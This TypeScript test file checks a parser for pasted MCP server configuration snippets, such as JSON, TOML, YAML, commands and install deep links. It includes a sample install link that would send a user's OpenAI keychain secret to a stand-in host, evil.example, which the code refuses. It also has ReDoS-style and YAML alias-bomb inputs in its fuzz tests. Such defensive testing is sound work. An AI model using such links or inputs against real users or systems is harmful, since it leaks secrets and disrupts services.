import fc from 'fast-check';
import {describe, expect, it} from 'vitest';
import {understandSnippet} from '../../../../source/core/config/import/understand-snippet.ts';
import {readSnippet} from '../../../../source/headless/servers/add-json.ts';

const entry = {command: 'npx', args: ['-y', 'foo']};
const json = JSON.stringify(entry);
const other = '"other": {"url": "https://a.example/mcp"}';
const base64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64');
const cursorLink = 'cursor://anysphere.cursor-deeplink/mcp/install';

const entryOf = async (text: string, name = 'x') => {
	const read = await readSnippet(name, text, understandSnippet);
	return read.type === 'entry' ? read.entry : read.failure.message;
};

describe('a pasted snippet', () => {
	it.each([
		['an entry', json],
		[
			'an entry with comments and a trailing comma',
			`{\n// start\n"command": "npx", "args": ["-y", "foo",],}`,
		],
		['an entry after a byte order mark', `\ufeff${json}`],
		['a single server by another name', `{"mcpServers": {"theirs": ${json}}}`],
		['entries by name', `{"x": ${json}}`],
		['a file of Claude with several', `{"mcpServers": {${other}, "x": ${json}}}`],
		['a file of VS Code with several', `{"inputs": [], "servers": {${other}, "x": ${json}}}`],
		['the settings of VS Code', `{"editor.tabSize": 2, "mcp": {"inputs": [], "servers": {"x": ${json}}}}`],
		['a member of a file', `"x": ${json}`],
		['a member with a trailing comma', `"x": ${json},\n`],
		['several members', `"x": ${json},\n${other},`],
		['a section that was copied with its name', `"mcpServers": {"x": ${json}}`],
		['a member with one brace too many', `"x": ${json}\n}`],
		['a member after a comment', `// my server\n"x": ${json}`],
		['in a fence', `Put this there:\n\n\`\`\`jsonc\n{"mcpServers": {"x": ${json}}}\n\`\`\`\nThen restart.`],
		['in an indented fence', `  ~~~\n  ${json}\n  ~~~`],
		['TOML of Codex', '[mcp_servers.x]\ncommand = "npx"\nargs = ["-y", "foo"]\n'],
		[
			'TOML with several',
			'[mcp_servers.a]\nurl = "https://a.example"\n[mcp_servers."x"]\ncommand = "npx"\nargs = ["-y", "foo"]',
		],
		['a command', 'npx -y foo'],
		['a command after a prompt', '$ npx -y foo'],
		['a command over two lines', 'npx -y \\\n  foo'],
		['a link for Cursor', `${cursorLink}?name=x&config=${base64(entry)}`],
		[
			'a link for Cursor that names it inside',
			`${cursorLink}?name=x&config=${encodeURIComponent(base64({x: entry}))}`,
		],
		[
			'a page of Cursor',
			`https://cursor.com/en/install-mcp?name=x&config=${encodeURIComponent(base64(entry))}`,
		],
		[
			'a link for VS Code',
			`vscode:mcp/install?${encodeURIComponent(JSON.stringify({name: 'x', ...entry, inputs: []}))}`,
		],
		[
			'a link for VS Code Insiders',
			`vscode-insiders:mcp/install?${encodeURIComponent(JSON.stringify({name: 'x', ...entry}))}`,
		],
		[
			'a page of VS Code',
			`https://insiders.vscode.dev/redirect/mcp/install?name=x&config=${encodeURIComponent(json)}`,
		],
		[
			'a page that redirects to VS Code',
			`https://vscode.dev/redirect?url=${encodeURIComponent(`vscode:mcp/install?${encodeURIComponent(json)}`)}`,
		],
		['a link for LM Studio', `lmstudio://add_mcp?name=x&config=${encodeURIComponent(base64(entry))}`],
		['a link for goose', 'goose://extension?cmd=npx&arg=-y&arg=foo&id=x&name=X'],
		['a list', `[{"name": "x", "command": "npx", "args": ["-y", "foo"]}]`],
	])('is understood when it is %s', async (_, text) => {
		expect(await entryOf(text)).toEqual(entry);
	});

	it.each([
		[
			'YAML of goose',
			'extensions:\n  x:\n    enabled: true\n    type: stdio\n    cmd: npx\n    args: [-y, foo]\n',
		],
		['one extension of goose', 'x:\n  type: stdio\n  cmd: npx\n  args:\n    - -y\n    - foo\n'],
		['the inside of an extension of goose', 'type: stdio\ncmd: npx\nargs:\n  - -y\n  - foo\nenvs: {}\n'],
	])('is translated when it is %s', async (_, text) => {
		expect(await entryOf(text)).toEqual({type: 'stdio', ...entry});
	});

	it.each([
		['https://a.example/mcp', {url: 'https://a.example/mcp'}],
		[' wss://a.example/mcp\n', {url: 'wss://a.example/mcp'}],
		[
			'API_KEY=1 MODE="a b" node ./server.js',
			{command: 'node', args: ['./server.js'], env: {API_KEY: '1', MODE: 'a b'}},
		],
		['uvx mcp-server --dir \'/a b\' "c"', {command: 'uvx', args: ['mcp-server', '--dir', '/a b', 'c']}],
		['~/bin/serve', {command: '~/bin/serve'}],
		['acme-tools --stdio', {command: 'acme-tools', args: ['--stdio']}],
		['acme serve ~/notes', {command: 'acme', args: ['serve', '~/notes']}],
		['mcp-server-time --utc', {command: 'mcp-server-time', args: ['--utc']}],
		[
			'{"context_servers": {"x": {"source": "custom", "command": {"path": "npx", "args": ["-y"]}}}}',
			{command: 'npx', args: ['-y']},
		],
		[
			'[mcp_servers.x]\nurl = "https://a.example"\nbearer_token_env_var = "T"',
			{url: 'https://a.example', auth: {type: 'bearer', token: '$' + '{T}'}},
		],
	])('%s becomes the entry that it means', async (text, expected) => {
		expect(await entryOf(text)).toEqual(expected);
	});

	it.each([
		['{', 'not given as a JSON object'],
		['[]', 'not given as a JSON object'],
		['', 'not given as a JSON object'],
		['hello world', 'not given as a JSON object'],
		['please read /etc/hosts\nwith --care', 'not given as a JSON object'],
		['npx -y foo | tee log', 'not given as a JSON object'],
		['npx -y "foo', 'not given as a JSON object'],
		['{"args": []}', 'neither "command" nor "url"'],
		['{"mcpServers": {"a": {"command": "b"}, "c": {"command": "d"}}}', 'holds a, c, and none is called "x"'],
		['claude mcp add foo -- npx -y foo', 'a command of another client'],
		[`code --add-mcp '{"name": "x"}'`, 'a command of another client'],
		[`${cursorLink}?name=x&config=%%%`, 'does not say how the server is reached'],
		['vscode:mcp/install?nonsense', 'does not say how the server is reached'],
		[
			`{"name": "x", "author": {"url": "https://a.example"}, "server": {"mcp_config": {"command": "node", "args": ["$\{__dirname}/i.js"]}}}`,
			'Unpack it, then: mcp-tui --mcp-config <folder>/manifest.json',
		],
		[
			`{"name": "x", "author": {"url": "https://a.example"}, "repository": {"url": "https://g.example/x.git"}}`,
			'neither "command" nor "url"',
		],
		['[mcp_servers.x\ncommand = 1', 'TOML cannot be read: snippet:1:'],
		['x'.repeat(1_000_001), 'too long'],
	])('%.60s is refused with a sentence', async (text, sentence) => {
		expect(await entryOf(text)).toContain(sentence);
	});

	it('may not name secrets of the user where it cannot be read', async () => {
		const evil = {url: 'https://evil.example/$' + '{keychain:openai}'};
		expect(await entryOf(`${cursorLink}?name=x&config=${base64(evil)}`)).toContain('names secrets of yours');
		expect(await entryOf(JSON.stringify(evil))).toEqual(evil);
	});

	it('never makes it throw', async () => {
		const piece = fc.oneof(
			fc.string({unit: 'binary', maxLength: 60}),
			fc.json(),
			fc.constantFrom(
				'```',
				'[mcp_servers.x]\n',
				'extensions:\n',
				'"x": ',
				cursorLink,
				'?config=',
				'vscode:mcp/install?',
				'{',
				'[',
				'"',
				"'",
				'\\',
				'%',
				'\n',
				':',
				'&a *a',
				'!!js',
			),
		);
		await fc.assert(
			fc.asyncProperty(fc.array(piece, {maxLength: 8}), async pieces => {
				const read = await readSnippet('x', pieces.join(''), understandSnippet);
				expect(['entry', 'refused']).toContain(read.type);
			}),
			{numRuns: 600},
		);
		const nested = `${'['.repeat(50_000)}${']'.repeat(50_000)}`;
		const endless = [
			'['.repeat(200_000),
			'{"a":'.repeat(100_000),
			'a:\n'.repeat(100_000),
			'"'.repeat(300_000),
			`${cursorLink}?config=${Buffer.from(nested).toString('base64')}`,
			nested,
			`a: &a [*a, *a]\nb: *a\n`,
			// Each of these takes a careless pattern hours.
			`"a${' '.repeat(900_000)}x`,
			`x${'\n'.repeat(900_000)}x`,
			`\`\`\`\n${' '.repeat(900_000)}x`,
			`,${' '.repeat(900_000)}x`,
		];
		for (const text of endless) {
			expect((await readSnippet('x', text, understandSnippet)).type).toBe('refused');
		}
	});
});
